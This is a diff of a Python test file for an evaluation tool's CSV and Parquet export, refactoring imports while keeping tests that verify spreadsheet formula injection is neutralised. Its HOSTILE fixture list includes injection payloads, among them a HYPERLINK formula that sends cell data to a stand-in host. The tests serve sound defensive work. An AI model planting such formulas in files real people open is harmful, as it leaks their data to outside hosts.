@@ -15,13 +15,15 @@ import pytest
 from typer.testing import CliRunner
 
 import evalkit
-from evalkit import export, files, pipeline, report
+from evalkit import files
+from evalkit.publish import export
 from evalkit import store as store_mod
 from evalkit.cli import app
 from evalkit.errors import StoreError
-from evalkit.pipeline import SAMPLE_DIR
+from evalkit.inputs.ingest import SAMPLE_DIR
 
 from conftest import copy_sample
+from evalkit.publish import folder as folder_mod
 
 runner = CliRunner()
 HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-3", "@SUM(A1:A2)",
@@ -80,9 +82,9 @@ def test_every_command_turns_an_os_error_into_one_line(monkeypatch, tmp_path, co
     def refused(*args, **kwargs):
         raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(target))
 
-    monkeypatch.setattr(pipeline, "report", refused)
-    monkeypatch.setattr(pipeline, "score", refused)
-    monkeypatch.setattr(pipeline, "ingest", refused)
+    monkeypatch.setattr("evalkit.publish.reports.report", refused)
+    monkeypatch.setattr("evalkit.study.score", refused)
+    monkeypatch.setattr("evalkit.inputs.ingest.ingest", refused)
     result = runner.invoke(app, [command])
     _one_line_error(result, str(target), "Permission denied")
 
@@ -196,9 +198,9 @@ def _cells(path: Path) -> list[str]:
 @pytest.mark.parametrize("fast", [False, True], ids=["pandas", "duckdb"])
 def test_csv_text_cells_cannot_start_a_formula(result, tmp_path, monkeypatch, fast):
     if fast:   # every table through the DuckDB writer
-        monkeypatch.setattr(pipeline, "FAST_WRITE_ROWS", 0)
+        monkeypatch.setattr("evalkit.publish.folder.FAST_WRITE_ROWS", 0)
     hostile = _hostile(result)
-    pipeline.write_tables(hostile, tmp_path)
+    folder_mod.write_tables(hostile, tmp_path)
     for name in ("units.csv", "ledger.csv", "indicators.csv", "adjustments.csv"):
         cells = _cells(tmp_path / name)
         risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
@@ -210,18 +212,18 @@ def test_csv_text_cells_cannot_start_a_formula(result, tmp_path, monkeypatch, fa
     adjustments = (tmp_path / "adjustments.csv").read_text(encoding="utf-8")
     assert (hostile.adjustments["points"] < 0).any() and ",-" in adjustments
     if fast:
-        monkeypatch.setattr(pipeline, "FAST_WRITE_ROWS", 10**9)
+        monkeypatch.setattr("evalkit.publish.folder.FAST_WRITE_ROWS", 10**9)
         slow = tmp_path / "slow"
-        pipeline.write_tables(hostile, slow)
+        folder_mod.write_tables(hostile, slow)
         for name in ("units.csv", "ledger.csv", "indicators.csv", "adjustments.csv"):
             assert (slow / name).read_bytes() == (tmp_path / name).read_bytes(), name
 
 
 def test_evalkit_reads_its_own_tables_back_exactly(result, tmp_path):
     hostile = _hostile(result)
-    pipeline.write_tables(hostile, tmp_path)
+    folder_mod.write_tables(hostile, tmp_path)
     first = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
-    read = report.read_cycle(tmp_path)
+    read = folder_mod.read_cycle(tmp_path)
     for name, attr, column in (("units", "units", "name_zh"), ("ledger", "ledger", "owner"),
                                ("ledger", "ledger", "task"),
                                ("indicators", "indicators", "name_en"),
@@ -231,22 +233,22 @@ def test_evalkit_reads_its_own_tables_back_exactly(result, tmp_path):
         assert got == want, (name, column)
     assert read["adjustments"]["points"].dtype.kind in "if"
     # re-running on unchanged data writes identical files
-    pipeline.write_tables(hostile, tmp_path)
+    folder_mod.write_tables(hostile, tmp_path)
     assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == first
 
 
 def test_a_column_name_from_the_inputs_is_neutralised_and_read_back(result, tmp_path):
     units = result.units.assign(**{"=1+1": 5.0})
-    pipeline.write_tables(dataclasses.replace(result, units=units), tmp_path)
+    folder_mod.write_tables(dataclasses.replace(result, units=units), tmp_path)
     header = (tmp_path / "units.csv").read_text(encoding="utf-8").splitlines()[0]
     assert header.endswith(",'=1+1")
-    assert report.read_cycle(tmp_path)["units"]["=1+1"].tolist() == [5.0] * len(units)
+    assert folder_mod.read_cycle(tmp_path)["units"]["=1+1"].tolist() == [5.0] * len(units)
 
 
 def test_parquet_tables_keep_the_text_raw(result, tmp_path):
     hostile = _hostile(result)
     cfg = {**hostile.config, "output": {**hostile.config.get("output", {}), "parquet_rows": 1}}
-    pipeline.write_tables(dataclasses.replace(hostile, config=cfg), tmp_path)
+    folder_mod.write_tables(dataclasses.replace(hostile, config=cfg), tmp_path)
     import duckdb
 
     path = tmp_path / "units.parquet"
@@ -255,13 +257,13 @@ def test_parquet_tables_keep_the_text_raw(result, tmp_path):
         names = [r[0] for r in con.execute("SELECT name_zh FROM read_parquet(?)",
                                            [str(path)]).fetchall()]
     assert names[:len(HOSTILE)] == HOSTILE
-    assert report.read_cycle(tmp_path)["units"]["name_zh"].tolist()[:len(HOSTILE)] == HOSTILE
+    assert folder_mod.read_cycle(tmp_path)["units"]["name_zh"].tolist()[:len(HOSTILE)] == HOSTILE
 
 
 def test_neutral_text_round_trips():
     for text in HOSTILE + ["", "'", "''", "中文", "-", "=", "0"]:
-        assert pipeline.restore_text(pipeline.neutral_text(text)) == text
-        assert not pipeline.neutral_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert folder_mod.restore_text(folder_mod.neutral_text(text)) == text
+        assert not folder_mod.neutral_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
 def test_workbook_headers_from_the_inputs_are_text(result, tmp_path):
